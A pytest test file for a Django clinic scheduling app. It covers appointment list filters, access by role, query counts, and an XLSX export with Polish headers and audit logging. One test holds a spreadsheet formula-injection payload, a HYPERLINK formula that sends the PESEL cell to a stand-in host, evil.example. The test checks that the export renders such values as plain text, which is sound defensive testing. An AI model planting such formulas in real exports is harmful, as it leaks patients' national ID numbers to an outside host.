from datetime import datetime
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from clinic.tests.factories import EmployeeFactory
from core.models import AuditCategory, AuditEvent
from core.time import WARSAW
from patients.models import Patient
from patients.tests.factories import PatientFactory
from scheduling.models import Appointment, AppointmentSource, AppointmentStatus
from scheduling.tests.factories import AppointmentFactory, ScheduleFactory

pytestmark = pytest.mark.django_db

URL = reverse("scheduling:appointment_list")
EXPORT = reverse("scheduling:appointment_export")


@pytest.fixture
def schedule():
    return ScheduleFactory()


def cancelled(schedule, by, reason="Choroba pacjenta", **kwargs):
    return AppointmentFactory(
        schedule=schedule,
        status=AppointmentStatus.CANCELLED,
        cancelled_at=datetime(2026, 12, 20, 9, 30, tzinfo=WARSAW),
        cancelled_by_label=by,
        cancel_reason=reason,
        **kwargs,
    )


def test_osoz_as_the_booking_employee_finds_the_online_bookings(client_for, bob, schedule):
    online = AppointmentFactory(schedule=schedule, source=AppointmentSource.OSOZ, booked_by_label="OSOZ")
    by_desk = AppointmentFactory(schedule=schedule)
    page = client_for(bob).get(URL, {"actor": "OSOZ"}).content.decode()
    assert online.patient.last_name in page and by_desk.patient.last_name not in page
    assert "Kto i kiedy umówił" in page and "Pracownik umawiający" in page


def test_the_tab_umowienia_leaves_cancelled_ones_out_and_filters_by_doctor_and_cell(client_for, bob, schedule):
    # Distinct surnames, none inside another: the assertions look for them in the page.
    kept = AppointmentFactory(schedule=schedule, patient__last_name="Zostawiona")
    gone = cancelled(schedule, by="OSOZ", patient__last_name="Odwołana")
    other = AppointmentFactory(patient__last_name="Gdzieindziej")
    client = client_for(bob)
    page = client.get(URL).content.decode()
    assert kept.patient.last_name in page and gone.patient.last_name not in page
    by_doctor = client.get(URL, {"employee": other.employee_id}).content.decode()
    assert other.patient.last_name in by_doctor and kept.patient.last_name not in by_doctor
    by_cell = client.get(URL, {"cell": schedule.cell_id}).content.decode()
    assert kept.patient.last_name in by_cell and other.patient.last_name not in by_cell


def test_the_cancelled_tab_filters_by_the_cancelling_employee(client_for, bob, schedule):
    online = cancelled(schedule, by="OSOZ", reason="Nie mogę przyjść w tym terminie", patient__last_name="Internetowa")
    by_desk = cancelled(schedule, by="Bogdan Rejestrator (bob)", patient__last_name="Okienkowa")
    AppointmentFactory(schedule=schedule, booked_by_label="OSOZ", source=AppointmentSource.OSOZ)
    page = client_for(bob).get(URL, {"tab": "odwolane", "actor": "osoz"}).content.decode()
    assert "Pracownik odwołujący" in page and "Kto i kiedy odwołał" in page
    assert online.patient.last_name in page and "Nie mogę przyjść w tym terminie" in page
    assert by_desk.patient.last_name not in page
    assert "20.12.2026 09:30" in page


def test_dates_filter_the_visit_day_in_warsaw(client_for, bob, schedule):
    monday = AppointmentFactory(
        schedule=schedule, starts_at=datetime(2027, 1, 4, 8, tzinfo=WARSAW), patient__last_name="Poniedziałkowa"
    )
    tuesday = AppointmentFactory(
        schedule=schedule, starts_at=datetime(2027, 1, 5, 0, 10, tzinfo=WARSAW), patient__last_name="Wtorkowa"
    )
    page = client_for(bob).get(URL, {"date_from": "2027-01-05", "date_to": "2027-01-05"}).content.decode()
    assert tuesday.patient.last_name in page and monday.patient.last_name not in page


def test_a_doctor_sees_only_his_own_appointments(client_for, carol, schedule):
    own_schedule = ScheduleFactory(employee=EmployeeFactory(user=carol))
    own = AppointmentFactory(schedule=own_schedule)
    foreign = AppointmentFactory(schedule=schedule)
    client = client_for(carol)
    page = client.get(URL).content.decode()
    assert own.patient.last_name in page and foreign.patient.last_name not in page
    rows = load_workbook(BytesIO(client.get(EXPORT).content)).active.iter_rows(min_row=2, values_only=True)
    assert [row[3] for row in rows] == [own.patient.pesel]


def test_a_user_without_a_role_gets_nothing(client_for, dave):
    client = client_for(dave)
    assert client.get(URL).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_pages_are_served_as_htmx_fragments(client_for, bob, schedule):
    AppointmentFactory.create_batch(3, schedule=schedule)
    response = client_for(bob).get(URL, {"page": "1"}, headers={"HX-Request": "true"})
    page = response.content.decode()
    assert "<table" in page and "<html" not in page


def queries_of(client, *requests) -> int:
    with CaptureQueriesContext(connection) as queries:
        for params in requests:
            assert client.get(URL, params).status_code == 200
    return len(queries)


def test_the_query_count_does_not_grow_with_the_page(client_for, bob, schedule):
    client = client_for(bob)
    AppointmentFactory.create_batch(2, schedule=schedule)
    cancelled(schedule, by="OSOZ")
    few = queries_of(client, {}, {"tab": "odwolane"})
    AppointmentFactory.create_batch(30, schedule=ScheduleFactory())
    for _index in range(10):
        cancelled(schedule, by="Bogdan Rejestrator (bob)")
    assert queries_of(client, {}, {"tab": "odwolane"}) == few


def test_the_export_is_a_real_workbook_with_polish_headers_and_local_dates(client_for, bob, schedule):
    appointment = AppointmentFactory(
        schedule=schedule,
        starts_at=datetime(2027, 7, 5, 8, 20, tzinfo=WARSAW),  # summer time: UTC+2
        source=AppointmentSource.OSOZ,
        booked_by_label="OSOZ",
    )
    response = client_for(bob).get(EXPORT, {"actor": "OSOZ"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="umowienia-')
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("Data i godzina wizyty", "Koniec wizyty", "Pacjent", "PESEL", "Lekarz")
    assert "Pracownik umawiający" in rows[0]
    assert len(rows) == 2
    row = rows[1]
    assert row[0] == datetime(2027, 7, 5, 8, 20)
    assert row[1] == datetime(2027, 7, 5, 8, 40)
    assert sheet["A2"].is_date and sheet["A2"].number_format == "dd.mm.yyyy hh:mm"
    assert row[2] == f"{appointment.patient.last_name} {appointment.patient.first_name}"
    assert row[7] == "OSOZ" and row[9] == "OSOZ"
    event = AuditEvent.objects.get(action="appointments_exported")
    assert event.category == AuditCategory.EXPORT and event.actor == bob
    assert "liczba pozycji: 1" in event.message and "OSOZ" in event.message


def test_the_cancelled_export_has_who_when_and_why(client_for, bob, schedule):
    cancelled(schedule, by="OSOZ", reason="Nie mogę przyjść")
    sheet = load_workbook(BytesIO(client_for(bob).get(EXPORT, {"tab": "odwolane"}).content)).active
    header, row = list(sheet.iter_rows(values_only=True))
    assert header[-3:] == ("Pracownik odwołujący", "Odwołano", "Powód odwołania")
    assert row[-3:] == ("OSOZ", datetime(2026, 12, 20, 9, 30), "Nie mogę przyjść")


HYPERLINK = '=HYPERLINK("http://evil.example/?q="&D2,"Pokaż wyniki")'


def test_names_and_reasons_that_look_like_formulas_are_exported_as_text(client_for, bob, schedule):
    appointment = cancelled(schedule, by="OSOZ", reason="=1+1", patient=PatientFactory(last_name=HYPERLINK))
    sheet = load_workbook(BytesIO(client_for(bob).get(EXPORT, {"tab": "odwolane"}).content)).active
    name, reason = sheet["C2"], sheet.cell(row=2, column=sheet.max_column)
    assert (name.value, name.data_type) == (f"{HYPERLINK} {appointment.patient.first_name}", "s")
    assert (reason.value, reason.data_type) == ("=1+1", "s")


def test_control_characters_stored_before_the_validators_do_not_break_the_export(client_for, bob, schedule):
    appointment = cancelled(schedule, by="OSOZ")
    Appointment.objects.filter(pk=appointment.pk).update(cancel_reason="Pacjent\u0001 odwołał")
    Patient.objects.filter(pk=appointment.patient_id).update(last_name="Kowal\u0001ski")
    response = client_for(bob).get(EXPORT, {"tab": "odwolane"})
    assert response.status_code == 200
    _header, row = load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True)
    assert row[2].startswith("Kowal\ufffdski ") and row[-1] == "Pacjent\ufffd odwołał"
